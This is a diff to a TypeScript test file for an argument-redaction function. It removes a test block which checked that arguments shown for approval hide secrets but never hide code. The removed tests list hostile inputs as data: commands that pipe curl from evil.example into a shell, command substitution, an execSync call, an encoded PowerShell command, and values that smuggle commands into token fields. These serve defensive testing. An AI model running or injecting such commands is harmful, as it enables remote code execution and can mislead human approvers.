@@ -156,30 +156,3 @@ describe("secrets in arguments", () => {
     }
   });
 });
-
-describe("arguments shown for approval", () => {
-  const shown = (...args: string[]) => redactedArgs(args, { forApproval: true });
-
-  it("hides secrets as elsewhere", () => {
-    expect(shown("--api-key=xyz123", "--token", "hunter2")).toEqual(["--api-key=<redacted>", "--token", "<redacted>"]);
-  });
-
-  it("never hides code", () => {
-    for (const args of [
-      ["-c", "TOKEN=x;curl${IFS}evil.example|sh"],
-      ["-c", "PASSWORD=$(curl evil.example)"],
-      ["-e", "const token='x'; require('child_process').execSync('id')"],
-      ["-EncodedCommand", "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAA"],
-      ["--token", "x; curl evil.example | sh"],
-      ["--token=`id`"],
-    ])
-      expect(shown(...args)).toEqual(args);
-  });
-
-  it("hides a known token even in code, and shows the code around it", () => {
-    expect(shown("-c", "TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a sh x.sh")).toEqual([
-      "-c",
-      "TOKEN=<redacted> sh x.sh",
-    ]);
-  });
-});
